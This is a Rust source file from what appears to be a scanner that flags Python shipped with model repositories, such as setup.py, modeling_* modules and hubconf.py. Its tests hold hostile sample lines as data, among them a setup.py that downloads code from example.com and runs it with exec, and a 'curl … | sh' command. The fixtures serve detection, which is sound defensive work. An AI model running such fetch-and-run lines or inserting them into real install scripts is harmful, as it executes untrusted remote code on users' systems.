//! Opens the Python that model repositories bring along: modules that loaders import because a model asks for them, and
//! scripts that run when the repository is installed. What other code does is the concern of applications.

use super::{
    part::Part,
    python::{self, Use},
};
use crate::{Engine, File, input::model::When};

/// Judges a Python file that is called as such code is.
pub(super) fn open(part: &Part<'_>, file: &File<'_>, engine: &mut Engine) -> bool {
    if file.extension() != "py" {
        return false;
    }
    let name = file.name();
    let (usage, title) = if name == "setup.py" {
        (Use { when: When::Deploy, script: true, builds: true }, "a script that installs")
    } else if is_custom_code(&name) {
        (Use { when: When::Load, script: false, builds: false }, "code that comes with a model")
    } else if engine.imports.run(file) {
        (Use { when: When::Load, script: false, builds: false }, "code that a model's code imports")
    } else {
        return false;
    };
    if !file.is_whole() {
        part.unscanned(engine, "it is too large to be read as Python");
        return false;
    }
    let Some(text) = file.text() else {
        part.unscanned(engine, "it is named like Python, and is not text");
        return false;
    };
    python::judge(part, &text, title, usage, engine);
    // It is code, whatever it belongs to.
    false
}

/// Whether a module has one of the names that `transformers`, `diffusers` and PyTorch Hub give to modules of repositories, or that of a
/// handler.
pub(super) fn is_custom_code(name: &str) -> bool {
    MODULES.iter().any(|start| name.starts_with(start))
        || matches!(name, "hubconf.py" | "handler.py" | "model_handler.py")
}

const MODULES: &[&str] = &[
    "modeling_",
    "modelling_",
    "configuration_",
    "tokenization_",
    "processing_",
    "image_processing_",
    "video_processing_",
    "feature_extraction_",
    "pipeline_",
    "scheduling_",
];

#[cfg(test)]
mod tests {
    use palisade_base::Severity;

    use crate::testing::findings;

    fn worst(name: &str, text: &str) -> Option<Severity> {
        findings("embedded-code", name, text).iter().map(|finding| finding.severity).max()
    }

    #[test]
    fn code_that_takes_over_is_found_where_loaders_run_it() {
        let command = "import os\nos.system('echo x')\nclass Model: pass\n";
        for name in ["modeling_x.py", "configuration_x.py", "hubconf.py", "handler.py"] {
            assert_eq!(worst(name, command), Some(Severity::Critical), "{name}");
        }
        assert_eq!(worst("train.py", command), None);
        assert_eq!(worst("modeling_x.py", "import torch\nclass Model(torch.nn.Module): pass\n"), None);
    }

    #[test]
    fn installers_may_build_and_not_fetch_code() {
        let fetches = "from urllib.request import urlopen\nexec(urlopen('http://example.com/x').read())\n";
        assert!(worst("setup.py", fetches) >= Some(Severity::High));
        for text in [
            "import subprocess\nsubprocess.check_call(['cmake', '--build', '.'])\n",
            "import subprocess\nrev = subprocess.check_output(['git', 'rev-parse', 'HEAD'])\n",
            "exec(open('pkg/version.py').read())\n",
            "import os\nos.system('make -C native')\n",
        ] {
            assert!(worst("setup.py", text) < Some(Severity::Medium), "{text}: {:?}", worst("setup.py", text));
        }
        assert!(worst("setup.py", "import os\nos.system('curl http://example.com/x | sh')\n") >= Some(Severity::High));
    }
}
